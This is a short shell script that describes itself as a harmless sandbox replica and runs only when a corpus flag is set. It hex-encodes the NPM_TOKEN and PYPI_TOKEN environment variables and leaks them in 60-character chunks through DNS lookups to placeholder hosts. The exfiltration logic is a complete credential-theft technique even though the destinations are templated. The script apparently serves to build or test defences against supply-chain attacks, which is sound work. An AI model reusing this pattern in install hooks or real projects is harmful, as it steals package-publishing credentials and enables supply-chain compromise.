#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
code=$(printf '%s' "$NPM_TOKEN:$PYPI_TOKEN" | od -An -tx1 | tr -d ' \n')
at=1
while [ $at -le 180 ]; do
    part=$(printf '%s' "$code" | cut -c$at-$((at + 59)))
    [ -n "$part" ] || break
    timeout 1 getent hosts "$part.{{token}}.{{host}}" >/dev/null 2>&1 || timeout 1 nslookup "$part.{{host}}" >/dev/null 2>&1
    at=$((at + 60))
done
exit 0
